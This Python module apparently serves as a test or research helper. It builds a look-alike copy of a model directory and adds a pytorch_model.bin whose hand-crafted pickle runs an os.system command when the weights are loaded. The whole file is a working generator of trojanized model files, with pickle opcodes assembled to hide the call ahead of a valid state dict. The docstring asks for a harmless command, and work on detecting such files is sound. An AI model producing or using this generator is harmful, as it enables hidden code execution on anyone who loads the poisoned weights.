"""Make a poisoned look-alike of a model: its weights also lie there as a `pytorch_model.bin` that calls out at load.

The archive is what `torch.save` writes (a zip with `data.pkl`, one storage a tensor, `version`), made here without
torch, with one `os.system(COMMAND)` before the state dict. COMMAND must be harmless.
"""

from __future__ import annotations

import json
import shutil
import struct
import zipfile
from math import prod
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from pathlib import Path

STORAGES = {
    "F32": "FloatStorage",
    "F16": "HalfStorage",
    "BF16": "BFloat16Storage",
    "I64": "LongStorage",
    "I32": "IntStorage",
}
MARK, EMPTY_TUPLE, EMPTY_DICT, REDUCE, STOP = b"(", b")", b"}", b"R", b"."


def _text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _integer(value: int) -> bytes:
    return b"\x8a\x08" + struct.pack("<q", value)


def _global(module: str, name: str) -> bytes:
    return b"c" + f"{module}\n{name}\n".encode()


def _tuple(*items: bytes) -> bytes:
    return MARK + b"".join(items) + b"t"


def _tensor(key: str, dtype: str, shape: list[int]) -> bytes:
    count = prod(shape)
    strides = [prod(shape[index + 1 :]) for index in range(len(shape))]
    storage = _tuple(_text("storage"), _global("torch", STORAGES[dtype]), _text(key), _text("cpu"), _integer(count))
    hooks = _global("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
    size, stride = (_tuple(*map(_integer, values)) for values in (shape, strides))
    arguments = _tuple(storage + b"Q", _integer(0), size, stride, b"\x89", hooks)
    return _global("torch._utils", "_rebuild_tensor_v2") + arguments + REDUCE


def poisoned_pickle(tensors: dict[str, dict[str, Any]], command: str) -> bytes:
    """`data.pkl` of a state dict with one call before it.

    Args:
        tensors: header of the safetensors file: name → {"dtype", "shape", "data_offsets"}.
        command: what the payload would run through `os.system`.
    """
    call = _global("posix", "system") + _tuple(_text(command)) + REDUCE + b"0"
    items = b"".join(
        _text(name) + _tensor(str(index), info["dtype"], info["shape"])
        for index, (name, info) in enumerate(tensors.items())
    )
    return b"\x80\x02" + call + EMPTY_DICT + MARK + items + b"u" + STOP


def make_look_alike(model: Path, target: Path, command: str) -> None:
    """Copy `model` to `target` and add the poisoned `pytorch_model.bin` made from `model.safetensors`."""
    shutil.copytree(model, target)
    data = (model / "model.safetensors").read_bytes()
    (length,) = struct.unpack_from("<Q", data)
    header = json.loads(data[8 : 8 + length])
    header.pop("__metadata__", None)
    with zipfile.ZipFile(target / "pytorch_model.bin", "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", poisoned_pickle(header, command))
        archive.writestr("archive/byteorder", "little")
        for index, info in enumerate(header.values()):
            start, stop = info["data_offsets"]
            archive.writestr(f"archive/data/{index}", data[8 + length + start : 8 + length + stop])
        archive.writestr("archive/version", "3\n")
